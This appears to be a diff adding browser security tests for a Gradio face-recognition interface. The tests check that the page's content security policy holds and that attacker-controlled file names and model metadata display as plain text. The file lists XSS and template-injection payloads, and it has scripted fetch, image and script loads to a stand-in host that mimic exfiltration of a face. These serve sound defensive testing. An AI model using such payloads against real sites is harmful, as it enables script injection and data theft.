@@ -1,0 +1,137 @@
+"""In a real browser: what others wrote never runs, and nothing that was seen gets out."""
+
+import asyncio
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import onnx
+import pytest
+
+from tests.ui.conftest import free_port
+from tests.ui.states import STATES, about, batch, image, video
+from ui.page import build_page, launch_options
+from ui.settings import Recognizers
+
+pytestmark = pytest.mark.browser
+
+# Each would call `hostile`, if it were taken for markup, a template or an address.
+ATTACKS = (
+    "<img src=x onerror=hostile(1)>",
+    "<script>hostile(2)</script>",
+    "${hostile(3)}",
+    "{{hostile(4)}}",
+    "'\"><svg onload=hostile(5)>",
+    "javascript:hostile(6)",
+)
+
+USED = ("image-result", "webcam-running", "video-result", "batch-result", "about", "settings")
+
+# What a browser says of a page that does what its policy forbids.
+TELL = """addEventListener("securitypolicyviolation",
+    ({violatedDirective, blockedURI}) => console.error("policy", violatedDirective, blockedURI))"""
+
+
+@pytest.fixture
+def window(browser: Any) -> Iterator[Any]:
+    """A browser's window, whose `hostile` tells who called it, and the errors of its console."""
+    context = browser.new_context(viewport={"width": 1440, "height": 900})
+    context.set_default_timeout(90_000)
+    tab = context.new_page()
+    tab.called, tab.errors = [], []
+
+    # Playwright can't name a method of a list.
+    def hostile(who: Any) -> None:
+        tab.called.append(who)
+
+    tab.expose_function("hostile", hostile)
+    tab.add_init_script(TELL)
+    tab.on("console", lambda said: tab.errors.append(said.text) if said.type == "error" else None)
+    tab.on("pageerror", lambda error: tab.errors.append(str(error)))
+    yield tab
+    context.close()
+
+
+def test_the_page_keeps_its_own_policy(window: Any, url: str) -> None:
+    window.goto(url)
+    window.locator(".example").first.wait_for()
+    for name in USED:
+        STATES[name](window)
+    assert window.errors == []
+
+
+def test_what_would_leave_the_page_is_held_back(window: Any, url: str) -> None:
+    """A script that got in after all could not send a face away."""
+    window.goto(url)
+    window.locator(".example").first.wait_for()
+    window.evaluate("fetch('https://elsewhere.example/').catch(() => null)")
+    window.evaluate("new Image().src = 'https://elsewhere.example/?face'")
+    window.evaluate("""() => { const script = document.createElement("script");
+        script.src = "https://elsewhere.example/a.js"; document.head.append(script); }""")
+    window.wait_for_timeout(500)
+    policies = {text.split()[1] for text in window.errors if text.startswith("policy ")}
+    assert policies == {"connect-src", "img-src", "script-src-elem"}
+
+
+def test_files_with_hostile_names_stay_text(window: Any, url: str, no_faces: Path) -> None:
+    window.goto(url)
+    window.locator(".example").first.wait_for()
+    picture = {"mimeType": "image/png", "buffer": no_faces.read_bytes()}
+    bad = {"mimeType": "image/png", "buffer": b"no picture"}
+    batch(window)
+    names = [f"{attack.replace('/', '_')}.png" for attack in ATTACKS]
+    files = [content | {"name": name} for name in names for content in (picture, bad)]
+    window.set_input_files("#batch .files", files)
+    window.locator("#batch .outcome").wait_for()
+    shown = window.locator("#batch tbody th").all_text_contents()
+    assert shown == [name for name in names for _ in (picture, bad)]
+    for name in names[::2]:
+        image(window)
+        window.set_input_files("#picture input[type=file]", bad | {"name": name})
+        window.locator(".toast-wrap, [data-testid=toast-body]").first.wait_for()
+        video(window)
+        window.set_input_files("#video .files", bad | {"name": f"{name}.mp4"})
+        window.locator("#video .problem:not(:empty)").wait_for()
+    assert window.called == []
+
+
+@pytest.fixture
+def hostile_model(tiny_model: Path, tmp_path: Path) -> Path:
+    """A model that fits, and speaks ill of itself."""
+    model = onnx.load(tiny_model)
+    (labels,) = [prop.value for prop in model.metadata_props if prop.key == "labels"]
+    words = dict(zip(("version", "recipe", "architecture"), ATTACKS, strict=False))
+    words |= dict(zip(("commit", "dataset", "licence"), ATTACKS[3:], strict=True))
+    words["metrics"] = json.dumps({attack: {"accuracy": float("inf")} for attack in ATTACKS})
+    onnx.helper.set_model_props(model, words | {"labels": labels})
+    path = tmp_path / "hostile.onnx"
+    onnx.save(model, path)
+    return path
+
+
+@pytest.fixture
+def hostile_url(
+    hostile_model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[str]:
+    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path))
+    # Gradio 6.31 opens an event loop for each lock, and closes none; see conftest.py.
+    monkeypatch.setattr("gradio.queueing.safe_get_lock", asyncio.Lock)
+    monkeypatch.setattr("gradio.utils.safe_get_lock", asyncio.Lock)
+    monkeypatch.setattr("gradio.utils.safe_get_stop_event", asyncio.Event)
+    recognizers = Recognizers(hostile_model)
+    blocks = build_page(recognizers)
+    options = launch_options(recognizers) | {"prevent_thread_lock": True, "quiet": True}
+    blocks.launch(**options, server_name="127.0.0.1", server_port=free_port())
+    yield blocks.local_url
+    blocks.close()
+
+
+def test_a_hostile_model_s_words_stay_text(window: Any, hostile_url: str) -> None:
+    window.goto(hostile_url)
+    window.locator(".example").first.wait_for()
+    about(window)
+    said = window.locator("#about").text_content()
+    assert [attack for attack in ATTACKS if attack in said] == list(ATTACKS)
+    assert window.called == []
+    assert window.errors == []
